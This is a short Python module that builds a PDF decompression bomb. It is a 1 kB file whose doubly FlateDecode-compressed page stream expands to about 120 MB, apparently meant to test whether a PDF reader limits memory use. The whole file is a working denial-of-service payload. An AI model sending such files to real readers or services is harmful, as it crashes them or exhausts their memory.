"""A small PDF that fills the memory of a reader without limits."""

import zlib
from functools import cache


@cache
def bomb() -> bytes:
    """Return a page of 1 kB that unpacks, in two steps, to 120 MB."""
    packed = zlib.compress(zlib.compress(b"BT (x) Tj ET " * 10_000_000, 9), 9)
    filters = b"/Length %d /Filter [/FlateDecode /FlateDecode]" % len(packed)
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>",
        b"<<" + filters + b">>\nstream\n" + packed + b"\nendstream",
    )
    made, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(b"%010d 00000 n \n" % len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 5\n0000000000 65535 f \n" + b"".join(places)
    end = b"trailer\n<</Root 1 0 R/Size 5>>\nstartxref\n%d\n%%%%EOF\n" % len(made)
    return made + table + end
